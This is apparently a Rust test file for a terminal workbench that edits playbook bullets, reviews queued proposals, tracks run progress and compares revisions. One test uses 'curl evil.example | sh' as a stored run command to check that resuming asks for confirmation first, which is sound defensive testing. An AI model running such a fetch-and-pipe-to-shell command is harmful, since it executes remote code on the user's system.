    ctrl(&mut st, 'j');
    typed(&mut st, "ratio = assets / liabilities");
    let effects = key(&mut st, KeyCode::Enter);
    let [Effect::Apply(batch)] = effects.as_slice() else {
        panic!("Enter saves: {effects:?}")
    };
    let [DeltaOp::Update(op)] = batch.ops.as_slice() else {
        panic!("{batch:?}")
    };
    let content = op.content.clone().unwrap();
    assert_eq!(
        content,
        "Current ratio = current assets / current liabilities.\n```python\nratio = assets / liabilities"
    );
    // editing it again shows each line as a line and saves the same text back
    st.playbook.bullets[0].content = content.clone();
    st.refilter();
    // the detail shows each line on its own screen line
    key(&mut st, KeyCode::Enter);
    let shown = screen(&st, 100, 30);
    assert!(
        shown
            .lines()
            .any(|l| l.contains("││  ratio = assets / liabilities")),
        "{shown}"
    );
    key(&mut st, KeyCode::Esc);
    key(&mut st, KeyCode::Char('e'));
    let Some(Popup::Input { editor, .. }) = &st.popup else {
        panic!("e edits")
    };
    assert_eq!(editor.lines().len(), 3);
    let effects = key(&mut st, KeyCode::Enter);
    let [Effect::Apply(batch)] = effects.as_slice() else {
        panic!("{effects:?}")
    };
    let [DeltaOp::Update(op)] = batch.ops.as_slice() else {
        panic!("{batch:?}")
    };
    assert_eq!(op.content.as_deref(), Some(content.as_str()));
    // the filter is one line: a line break key does nothing there
    key(&mut st, KeyCode::Char('/'));
    typed(&mut st, "ratio");
    update(&mut st, Action::Key(alt_enter));
    ctrl(&mut st, 'j');
    let Some(Popup::Input { editor, .. }) = &st.popup else {
        panic!("the filter stays open")
    };
    assert_eq!(editor.lines(), ["ratio"]);
}

#[test]
fn a_long_bullet_is_edited_wrapped_and_saved_as_one_line() {
    let (_store, mut st) = fixture();
    key(&mut st, KeyCode::Right);
    let id = st.selected_bullet().unwrap().id.clone();
    key(&mut st, KeyCode::Char('e'));
    let tail = " Check the units of every input first, convert percentages to decimals, and round \
                only the final answer to the precision the question asks for.";
    for c in tail.chars() {
        key(&mut st, KeyCode::Char(c));
    }
    insta::assert_snapshot!("edit_bullet_wrapped", screen(&st, 80, 24));
    let effects = key(&mut st, KeyCode::Enter);
    let [Effect::Apply(batch)] = effects.as_slice() else {
        panic!("Enter saves the edit: {effects:?}");
    };
    let [DeltaOp::Update(op)] = batch.ops.as_slice() else {
        panic!("one UPDATE: {batch:?}");
    };
    assert_eq!(op.bullet_id, id);
    let content = op.content.as_deref().unwrap();
    assert!(content.ends_with("the question asks for."), "{content}");
    assert!(
        !content.contains('\n'),
        "wrapping is only on screen: {content}"
    );
}

/// Queues a second curator batch (key `k2`): one ADD to `OTHERS`.
fn propose_to_others(store: &mut Store, reasoning: &str) {
    store
        .propose(
            "fin",
            "k2",
            Some("run-1"),
            reasoning,
            &[("c-1".into(), add("OTHERS", "Answer in the unit asked for."))],
            &Default::default(),
        )
        .unwrap();
}

#[test]
fn a_proposal_for_a_missing_section_says_approving_creates_it() {
    let (mut store, mut st) = fixture();
    apply(
        &mut store,
        "fin",
        batch(
            "rename",
            vec![DeltaOp::RenameSection {
                section: "OTHERS".into(),
                new_name: "Misc".into(),
            }],
        ),
    );
    propose_to_others(&mut store, "a stale section name");
    applied(&mut store, &mut st, Vec::new());
    key(&mut st, KeyCode::Char('3'));
    key(&mut st, KeyCode::Char(']'));
    let shown = screen(&st, 100, 30);
    assert!(
        shown.contains("approving creates section 'OTHERS'"),
        "{shown}"
    );
    key(&mut st, KeyCode::Char('['));
    assert!(!screen(&st, 100, 30).contains("approving creates section"));
}

#[test]
fn selections_follow_their_items_when_new_ones_arrive() {
    let (mut store, mut st) = fixture();
    key(&mut st, KeyCode::Char('4'));
    key(&mut st, KeyCode::Char('j'));
    let picked = st.revisions[st.revision_sel].id;
    key(&mut st, KeyCode::Char('1'));
    key(&mut st, KeyCode::Char('j'));
    let section = st.section_name().unwrap().to_string();
    // another change lands (as from a run or another process): a revision on top, a section before
    let effects = vec![Effect::Apply(HandEdit {
        what: "elsewhere",
        reason: "another change".into(),
        ops: vec![
            DeltaOp::AddSection {
                section: "DATES".into(),
                slug: None,
            },
            DeltaOp::MoveSection {
                section: "DATES".into(),
                index: 0,
            },
        ],
    })];
    applied(&mut store, &mut st, effects);
    assert_eq!(st.revisions[st.revision_sel].id, picked);
    assert_eq!(st.section_name(), Some(section.as_str()));
}

#[test]
fn after_a_batch_is_decided_the_queue_moves_on_to_the_next_waiting_one() {
    let (mut store, mut st) = fixture();
    key(&mut st, KeyCode::Char('3'));
    let first = st.queue[st.queue_sel].id;
    propose_to_others(&mut store, "the next batch");
    store.decide_all(first, true, None, "ana").unwrap();
    applied(&mut store, &mut st, Vec::new());
    let selected = &st.queue[st.queue_sel];
    assert_ne!(selected.id, first);
    assert_eq!(selected.status, BatchStatus::Pending);
}

#[test]
fn every_pane_and_popup_draws_without_panic_on_tiny_terminals() {
    let (_s, mut st) = fixture();
    let sizes = [(1, 1), (10, 3), (20, 5), (40, 10), (79, 23)];
    let mut drawn = 0;
    let mut draw_all = |st: &State| {
        for (w, h) in sizes {
            let shown = screen(st, w, h);
            assert_eq!(shown.lines().count(), h as usize);
            drawn += 1;
        }
    };
    // each pane, then a popup of each kind over it
    for pane in ['1', '2', '3', '4'] {
        key(&mut st, KeyCode::Char(pane));
        draw_all(&st);
    }
    key(&mut st, KeyCode::Char('1'));
    key(&mut st, KeyCode::Right);
    for open in ['e', 'm', 'd', '/', '?'] {
        key(&mut st, KeyCode::Char(open));
        assert!(st.popup.is_some(), "{open} opens a popup");
        draw_all(&st);
        st.popup = None;
    }
    key(&mut st, KeyCode::Char('2'));
    key(&mut st, KeyCode::Char('r'));
    draw_all(&st);
    st.popup = None;
    key(&mut st, KeyCode::Char('3'));
    for open in ['e', 'n', 'A'] {
        key(&mut st, KeyCode::Char(open));
        assert!(st.popup.is_some(), "{open} opens a popup");
        draw_all(&st);
        st.popup = None;
    }
    assert_eq!(drawn, 5 * (4 + 5 + 1 + 3));
}

#[test]
fn thousands_of_random_keys_never_panic_and_every_frame_draws() {
    // every key the workbench knows, plus some it does not
    let chars = "?q123456789jkgGhlemdJKS/oarRpbExynsAuv[]P xzQ\t";
    let mut keys: Vec<KeyEvent> = chars
        .chars()
        .map(|c| KeyEvent::new(KeyCode::Char(c), KeyModifiers::NONE))
        .collect();
    for code in [
        KeyCode::Enter,
        KeyCode::Esc,
        KeyCode::Tab,
        KeyCode::BackTab,
        KeyCode::Up,
        KeyCode::Down,
        KeyCode::Left,
        KeyCode::Right,
        KeyCode::PageUp,
        KeyCode::PageDown,
        KeyCode::Home,
        KeyCode::End,
        KeyCode::Backspace,
    ] {
        keys.push(KeyEvent::new(code, KeyModifiers::NONE));
    }
    keys.push(KeyEvent::new(KeyCode::Enter, KeyModifiers::ALT));
    for c in ['u', 'j', 's'] {
        keys.push(KeyEvent::new(KeyCode::Char(c), KeyModifiers::CONTROL));
    }
    let mut quits = 0;
    // four sequences from fixed seeds (repeatable), each from a fresh workbench
    for start in 1..=4u64 {
        let (_s, mut st) = fixture();
        let mut seed = start.wrapping_mul(0x9E37_79B9_7F4A_7C15);
        for i in 0..3000 {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            update(
                &mut st,
                Action::Key(keys[(seed % keys.len() as u64) as usize]),
            );
            if st.quit {
                // quitting is allowed; go on from where the state is
                st.quit = false;
                quits += 1;
            }
            if i % 25 == 0 {
                assert_eq!(screen(&st, 80, 24).lines().count(), 24);
            }
        }
    }
    assert!(quits > 0, "the sequences reached quit");
}

#[test]
fn resuming_a_run_that_runs_a_stored_command_shows_it_and_asks_first() {
    let (_s, mut st) = fixture();
    // a cancelled run-9 whose environment runs `command`
    let unfinished = |command: &str| {
        Action::UnfinishedRuns(vec![ace::tui::state::Unfinished {
            live_elsewhere: false,
            run: ace::adaptation::RunRecord {
                id: "run-9".into(),
                playbook: "fin".into(),
                kind: RunKind::Offline,
                status: RunStatus::Cancelled,
                config: RunConfig {
                    env: ace::environment::Environment::parse(&format!("cmd:{command}")).unwrap(),
                    ..RunConfig::default()
                },
                feedback_mode: FeedbackMode::GroundTruth,
                checkpoint: None,
                best_revision: None,
                error: None,
                created_at: "2026-11-24T12:00:00.000Z".into(),
                updated_at: "2026-11-24T12:30:00.000Z".into(),
            },
        }])
    };
    key(&mut st, KeyCode::Char('2'));
    key(&mut st, KeyCode::Char('R'));
    update(&mut st, unfinished("curl evil.example | sh"));
    // picking it asks, showing the command; nothing starts yet
    assert!(key(&mut st, KeyCode::Enter).is_empty());
    let shown = screen(&st, 100, 24);
    assert!(shown.contains("curl evil.example | sh"), "{shown}");
    assert!(matches!(st.popup, Some(Popup::Confirm { .. })));
    // declining starts nothing; confirming resumes
    assert!(key(&mut st, KeyCode::Esc).is_empty());
    assert!(st.popup.is_none());
    key(&mut st, KeyCode::Char('R'));
    update(&mut st, unfinished("true"));
    key(&mut st, KeyCode::Enter);
    assert_eq!(
        key(&mut st, KeyCode::Char('y')),
        vec![Effect::ResumeRun {
            run: "run-9".into(),
            playbook: "fin".into()
        }]
    );
}

#[test]
fn the_revisions_pane_keeps_the_newest_revision_selected_as_edits_arrive() {
    let (mut store, mut st) = fixture();
    let newest = st.revisions[0].id;
    assert_eq!(st.revision_sel, 0);
    // two hand edits later the pane still offers the newest, not the original import
    for (i, content) in ["one more lesson", "and another"].iter().enumerate() {
        apply(
            &mut store,
            "fin",
            batch(&format!("later-{i}"), vec![add("OTHERS", content)]),
        );
    }
    reload(&mut store, &mut st);
    assert_eq!(st.revision_sel, 0);
    assert!(st.revisions[0].id > newest);
    // a revision picked by hand is followed as new ones arrive
    st.revision_sel = 1;
    let picked = st.revisions[1].id;
    apply(
        &mut store,
        "fin",
        batch("later-3", vec![add("OTHERS", "third")]),
    );
    reload(&mut store, &mut st);
    assert_eq!(st.revisions[st.revision_sel].id, picked);
}

#[test]
fn samples_in_flight_each_keep_their_own_question_answer_and_verdict() {
    let mut st = State::new(String::new(), String::new(), RunConfig::default());
    st.no_color = true;
    update(&mut st, started("run-1", 8, false));
    let ev = |st: &mut State, e: Event| update(st, Action::Run(Box::new(e)));
    // four samples interleaved, as concurrency 4 delivers them
    for i in 0..4 {
        ev(
            &mut st,
            Event::SampleStarted {
                key: format!("train/1/1/{i}"),
                question: format!("question number {i}"),
            },
        );
    }
    ev(
        &mut st,
        Event::Generated {
            key: "train/1/1/2".into(),
            answer: "two".into(),
            cited: vec![],
        },
    );
    ev(
        &mut st,
        Event::Generated {
            key: "train/1/1/0".into(),
            answer: "zero".into(),
            cited: vec![],
        },
    );
    ev(
        &mut st,
        Event::Evaluated {
            key: "train/1/1/2".into(),
            round: 1,
            correct: true,
            feedback: "ok".into(),
        },
    );
    ev(
        &mut st,
        Event::Evaluated {
            key: "train/1/1/0".into(),
            round: 1,
            correct: false,
            feedback: "no".into(),
        },
    );
    ev(
        &mut st,
        Event::Reflected {
            key: "train/1/1/2".into(),
            key_insight: "insight of two".into(),
            rounds: 1,
        },
    );
    let slot = |st: &State, k: &str| st.run.slots.iter().find(|s| s.key == k).cloned();
    assert_eq!(st.run.slots.len(), 3, "sample 2 finished");
    let zero = slot(&st, "train/1/1/0").unwrap();
    assert_eq!(
        (zero.question.as_str(), zero.answer.as_str()),
        ("question number 0", "zero")
    );
    assert!(zero.verdict.starts_with("wrong"));
    let last = st.run.last.clone().unwrap();
    assert_eq!(
        (
            last.key.as_str(),
            last.question.as_str(),
            last.answer.as_str(),
            last.insight.as_str()
        ),
        ("train/1/1/2", "question number 2", "two", "insight of two")
    );
    assert!(slot(&st, "train/1/1/1").unwrap().answer.is_empty());
    key(&mut st, KeyCode::Char('2'));
    let shown = screen(&st, 120, 30);
    assert!(
        shown.contains("▸ train/1/1/0 question number 0 · wrong"),
        "{shown}"
    );
    assert!(shown.contains("last finished: train/1/1/2"), "{shown}");
}

#[test]
fn progress_and_accuracy_move_with_each_sample() {
    let mut st = State::new(String::new(), String::new(), RunConfig::default());
    update(&mut st, started("run-1", 10, false));
    let eval = |st: &mut State, key: &str, round: u32, correct: bool| {
        update(
            st,
            Action::Run(Box::new(Event::Evaluated {
                key: key.into(),
                round,
                correct,
                feedback: String::new(),
            })),
        )
    };
    eval(&mut st, "train/1/1/0", 1, true);
    eval(&mut st, "train/1/1/1", 1, false);
    eval(&mut st, "train/1/1/1", 2, true); // a retry is not a new sample
    eval(&mut st, "val/1/1/0", 1, true); // nor is a validation sample
    assert_eq!(st.run.done, 2);
    assert_eq!(st.run.so_far, Some((1, 2)));
    // a new epoch starts counting again
    eval(&mut st, "train/2/6/0", 1, true);
    assert_eq!(
        (st.run.epoch, st.run.done, st.run.so_far),
        (2, 1, Some((1, 1)))
    );
}

#[test]
fn a_long_error_wraps_whole_and_the_header_keeps_the_playbook_at_any_width() {
    let (_s, mut st) = fixture();
    update(
        &mut st,
        Action::Failed(
            "batch 'tui-edit-1a2b' rejected, nothing was written: operations[0] (UPDATE misc-00001): bullet misc-00001 was removed by revision 7 (REMOVE by ana); revert it first".into(),
        ),
    );
    let shown = screen(&st, 80, 24);
    assert!(shown.contains("revert it first"), "{shown}");
    assert!(shown.contains("? help"), "{shown}");
    for width in [60, 80, 120] {
        let shown = screen(&st, width, 24);
        let header = shown.lines().next().unwrap();
        assert!(header.contains("fin (4 bullets"), "{width}: {header}");
    }
}

#[test]
fn the_chart_shows_train_validation_and_test_with_the_best_validation_marked() {
    let mut st = State::new(String::new(), String::new(), RunConfig::default());
    st.no_color = true;
    update(&mut st, started("run-1", 4, false));
    for (epoch, split, correct) in [
        (1, Split::Train, 2),
        (1, Split::Val, 3),
        (2, Split::Train, 3),
        (2, Split::Val, 2),
        (2, Split::Test, 3),
    ] {
        update(
            &mut st,
            Action::Run(Box::new(Event::EpochFinished {
                epoch,
                split,
                correct,
                total: 4,
            })),
        );
    }
    key(&mut st, KeyCode::Char('2'));
    let shown = screen(&st, 160, 40);
    for name in ["train", "val", "test", "best val"] {
        assert!(shown.contains(name), "{name} missing:\n{shown}");
    }
}

#[test]
fn c_copies_a_bullets_text_to_the_clipboard_through_the_terminal() {
    let (_s, mut st) = fixture();
    key(&mut st, KeyCode::Char('l'));
    let content = st.selected_bullet().unwrap().content.clone();
    assert_eq!(
        key(&mut st, KeyCode::Char('c')),
        vec![Effect::Copy(content.clone())]
    );
    assert!(
        st.message.starts_with("copied the text of"),
        "{}",
        st.message
    );
    // the sequence a terminal reads: OSC 52 with the text in base64
    let mut out = Vec::new();
    ace::tui::write_clipboard(&mut out, "Quick ratio ✓").unwrap();
    let out = String::from_utf8(out).unwrap();
    if std::env::var_os("TMUX").is_none() {
        assert_eq!(out, "\u{1b}]52;c;UXVpY2sgcmF0aW8g4pyT\u{7}");
    } else {
        assert!(out.contains("UXVpY2sgcmF0aW8g4pyT"), "{out:?}");
    }
}

#[test]
fn two_revisions_or_a_revision_and_now_are_compared_in_the_revisions_pane() {
    let (store, mut st) = fixture();
    key(&mut st, KeyCode::Char('4'));
    let newest = st.revisions[0].id;
    let oldest = st.revisions.last().unwrap().id;
    // mark the newest, move to the oldest, compare: always the earlier first
    assert!(key(&mut st, KeyCode::Char('c')).is_empty());
    assert!(st.message.starts_with(&format!("marked revision {newest}")));
    key(&mut st, KeyCode::Char('G'));
    assert_eq!(
        key(&mut st, KeyCode::Char('c')),
        vec![Effect::Compare {
            a: oldest,
            b: Some(newest)
        }]
    );
    assert_eq!(
        key(&mut st, KeyCode::Char('w')),
        vec![Effect::Compare { a: oldest, b: None }]
    );
    // what the runner answers is shown in place of a revision's diff
    let before = store.playbook_at(oldest).unwrap();
    let after = store.load_playbook("fin").unwrap();
    let changes = ace::delta::diff(&before, &after);
    assert!(!changes.is_empty());
    update(
        &mut st,
        Action::Compared(format!("revision {oldest} → the playbook now"), changes),
    );
    let shown = screen(&st, 120, 30);
    assert!(
        shown.contains(&format!("revision {oldest} → the playbook now")),
        "{shown}"
    );
    assert!(shown.contains("+ ["), "{shown}");
    // and the same playbook against itself has nothing to show
    assert!(ace::delta::diff(&after, &after).is_empty());
}

#[test]
fn the_queue_list_moves_over_batches_with_j_k_and_enter_reaches_the_ops() {
    let (mut store, mut st) = fixture();
    store
        .propose(
            "fin",
            "k2",
            None,
            "second",
            &[(
                "c-9".into(),
                DeltaOp::Add(ace::delta::AddOp::new("OTHERS", "another lesson")),
            )],
            &Default::default(),
        )
        .unwrap();
    reload(&mut store, &mut st);
    key(&mut st, KeyCode::Char('3'));
    assert_eq!((st.queue_sel, st.op_sel), (0, 0));
    key(&mut st, KeyCode::Char('j'));
    assert_eq!(
        (st.queue_sel, st.op_sel),
        (1, 0),
        "j moves to the next batch"
    );
    key(&mut st, KeyCode::Char('k'));
    key(&mut st, KeyCode::Enter);
    key(&mut st, KeyCode::Char('j'));
    assert_eq!(
        (st.queue_sel, st.op_sel),
        (0, 1),
        "inside a batch j moves over its ops"
    );
    key(&mut st, KeyCode::Esc);
    key(&mut st, KeyCode::Char('j'));
    assert_eq!(st.queue_sel, 1, "Esc goes back to the batches");
}

#[test]
fn a_click_switches_tabs_focuses_a_pane_and_picks_a_section() {
    let (_s, mut st) = fixture();
    let click = |st: &mut State, x: u16, y: u16| {
        update(
            st,
            Action::Click {
                x,
                y,
                width: 120,
                height: 30,
            },
        )
    };
    // the header at 120 columns: "ace [1 Playbook] [2 Run] [3 Queue (1)] [4 Revisions]"
    click(&mut st, 19, 0);
    assert_eq!(st.focus, Pane::Run);
    click(&mut st, 27, 0);
    assert_eq!(st.focus, Pane::Queue);
    click(&mut st, 6, 0);
    assert_eq!(st.focus, Pane::Sections);
    // the third section's row, then the bullets on the right
    click(&mut st, 5, 4);
    assert_eq!((st.focus, st.section), (Pane::Sections, 2));
    click(&mut st, 80, 10);
    assert_eq!(st.focus, Pane::Bullets);
    // a bullet's row selects it: the section with the most bullets, its second row
    let (section, _) = (0..st.playbook.sections.len())
        .map(|i| {
            let name = &st.playbook.sections[i].name;
            (i, st.playbook.section_bullets(name).count())
        })
        .max_by_key(|(_, n)| *n)
        .unwrap();
    click(&mut st, 5, 2 + section as u16);
    assert_eq!(st.section, section);
    assert!(st.visible.len() >= 2, "the fixture's fullest section");
    click(&mut st, 80, 3);
    assert_eq!((st.focus, st.bullet), (Pane::Bullets, 1));
    // a popup takes no clicks
    key(&mut st, KeyCode::Char('?'));
    click(&mut st, 19, 0);
    assert_eq!(st.focus, Pane::Bullets);
}

#[test]
fn the_run_form_takes_a_cost_limit_and_the_run_pane_shows_spend_against_it() {
    use ace::tui::popups::parse_run_fields;
    let defaults = RunConfig {
        dataset: "data.jsonl".into(),
        ..RunConfig::default()
    };
    let config = parse_run_fields(&defaults, &[("max_cost", "$1.5".into())]).unwrap();
    assert_eq!(config.max_cost, Some(1.5));
    let config = parse_run_fields(&defaults, &[("max_cost", String::new())]).unwrap();
    assert_eq!(config.max_cost, None);
    let (field, message) = parse_run_fields(&defaults, &[("max_cost", "lots".into())]).unwrap_err();
    assert_eq!(field, Some("max_cost"));
    assert!(message.contains("US dollars"), "{message}");
    let (_store, mut state) = fixture();
    update(
        &mut state,
        Action::Ledger {
            tokens: 1200,
            cost_usd: 0.25,
            max_usd: Some(1.5),
        },
    );
    key(&mut state, KeyCode::Char('2'));
    let shown = screen(&state, 120, 40);
    assert!(shown.contains("$0.2500 of $1.50 limit"), "{shown}");
}
